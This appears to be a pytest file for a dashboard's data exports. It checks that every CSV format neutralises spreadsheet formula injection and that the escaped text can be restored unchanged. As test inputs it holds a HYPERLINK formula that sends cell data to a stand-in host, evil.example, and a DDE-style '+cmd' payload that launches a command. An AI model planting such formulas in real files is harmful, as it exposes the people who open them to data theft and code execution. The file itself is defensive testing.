"""Every CSV written for people to open is inert in a spreadsheet (CSV injection, OWASP)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from dashboard import cli
from dashboard.core import control, data
from dashboard.core import spreadsheet
from dashboard.exports import records as export, registry
from dashboard.core.data import load_dataset
from tests.dataset_helpers import PLACES, ev, make_dataset

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
HOSTILE = [FORMULA, "+1+2", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


def hostile_files(tmp_path):
    places = [dict(PLACES[0], name=FORMULA, aliases=""), *PLACES[1:]]
    events = [ev(place=FORMULA, quote="=1+1 said the report", claimed_by="@SUM(1,2)", source_name="-2+3 News",
                 notes="+cmd|' /C calc'!A0")]
    return make_dataset(tmp_path, events, places)


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_inert(text: str, *must_hold: str):
    for c in cells(text):
        assert not c.startswith(spreadsheet.TRIGGERS), repr(c)  # no cell a spreadsheet would run
    for s in must_hold:
        assert "'" + s in cells(text), s  # the text is still there, after a single quote


def test_inert_and_restore():
    for s in HOSTILE:
        assert spreadsheet.inert(s) == "'" + s and spreadsheet.restore(spreadsheet.inert(s)) == s
    for s in ("Aleppo", "", "it's", "36.2"):
        assert spreadsheet.inert(s) == s and spreadsheet.restore(s) == s
    # text that already begins with a quote gets one more, so restore is the exact inverse
    for s in ("'quoted'", "'-5 km", "''", "'"):
        assert spreadsheet.inert(s) == "'" + s and spreadsheet.restore(spreadsheet.inert(s)) == s
    assert spreadsheet.inert(-3.5) == -3.5  # numbers stay numbers
    frame = spreadsheet.inert_frame(pd.DataFrame({"t": ["=1", "a"], "n": [-1.0, 2.0]}))
    assert frame["t"].tolist() == ["'=1", "a"] and frame["n"].tolist() == [-1.0, 2.0]


def test_state_csv_is_inert(tmp_path, capsys):
    e, p, _ = hostile_files(tmp_path)
    assert cli.main(["state", "--date", "2024-12-01", "--format", "csv", "--events", str(e), "--places", str(p)]) == 0
    out = capsys.readouterr().out
    assert_inert(out, FORMULA, "=1+1 said the report")
    # the same writer the app's CSV download uses
    ds = load_dataset(e, p)
    assert_inert(export.to_csv(control.state_at(ds, "2024-12-01")), FORMULA)
    # JSON and GeoJSON are not opened as spreadsheets: the text is kept exactly
    assert FORMULA in export.to_json(control.state_at(ds, "2024-12-01")).replace('\\"', '"')


def test_acled_export_is_inert_and_reads_back_as_it_was(tmp_path):
    e, p, a = hostile_files(tmp_path)
    out = tmp_path / "acled.csv"
    assert cli.main(["export", "--format", "acled", "--events", str(e), "--places", str(p), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert_inert(text, FORMULA, "=1+1 said the report", "-2+3 News")
    # import-acled takes our own export back with the text as it was
    back = tmp_path / "back"
    assert cli.main(["import-acled", str(out), "--out", str(back), "--no-match"]) == 0
    rows = list(csv.DictReader((back / "events.csv").open(encoding="utf-8")))
    assert rows and rows[0]["place"] == FORMULA and rows[0]["quote"] == "=1+1 said the report"


def test_a_review_file_is_inert_and_accept_takes_it_back_verbatim(tmp_path):
    from dashboard.ingest import extraction
    from dashboard.ingest.accepting import accept

    e, p, a = make_dataset(tmp_path, [ev()])
    text = "=HYPERLINK(\"https://evil.example\") Rebels captured Bravo on Friday."
    out = tmp_path / "review.csv"
    _, places_rows = data.read_rows(p)
    _, actors_rows = data.read_rows(a)
    rows, _, _, _ = extraction.write_proposals(text, out, url="https://example.org/r", publisher="X",
                                               published="2024-12-08", places_rows=places_rows,
                                               actors_rows=actors_rows, places_path=p, online=False, user_agent="t")
    assert rows and rows[0]["quote"].startswith("=HYPERLINK")
    written = out.read_text(encoding="utf-8")
    assert_inert(written)  # opened in a spreadsheet to review, nothing runs
    assert accept(out, events_path=e, places_path=p) == []
    added = list(csv.DictReader(e.open(encoding="utf-8")))[-1]
    assert added["quote"] == rows[0]["quote"] and added["quote"] in text  # verbatim again in the data


def _render(fmt, ds):
    """What ``fmt`` writes for the data set: a view's formats take a day's state, the others the claims."""
    return fmt.render(control.state_at(ds, "2024-12-01")) if fmt.kind == "view" else fmt.render(ds)


@pytest.mark.parametrize("name", [n for n, f in registry.FORMATS.items() if f.is_csv])
def test_every_registered_csv_format_is_inert(tmp_path, name):
    e, p, a = hostile_files(tmp_path)
    text = _render(registry.FORMATS[name], load_dataset(e, p, a))
    assert_inert(text, FORMULA)  # the hostile place name is there, after a single quote
    assert cells(text)  # (and the file is not empty)


def test_the_registry_knows_every_csv_it_writes_and_takes_none_as_text():
    csv_formats = {n for n, f in registry.FORMATS.items() if f.is_csv}
    assert csv_formats == {n for n, f in registry.FORMATS.items() if f.suffix == ".csv" or f.mime == "text/csv"}
    assert csv_formats >= {"csv", "acled"}
    # a new CSV format that would hand the registry finished text instead of a table is refused
    with pytest.raises(ValueError, match="table"):
        registry.Format("sheet", "view", ".csv", "text/csv", "Sheet", "a sheet", text=lambda state: "=1\n")
    with pytest.raises(ValueError, match="table"):
        registry.Format("sheet", "view", ".txt", "text/csv", "Sheet", "a sheet", text=lambda state: "=1\n")


def test_text_formats_keep_hostile_text_exactly(tmp_path):
    e, p, a = hostile_files(tmp_path)
    ds = load_dataset(e, p, a)
    for name in ("json", "geojson"):
        assert FORMULA in _render(registry.FORMATS[name], ds).replace('\\"', '"'), name
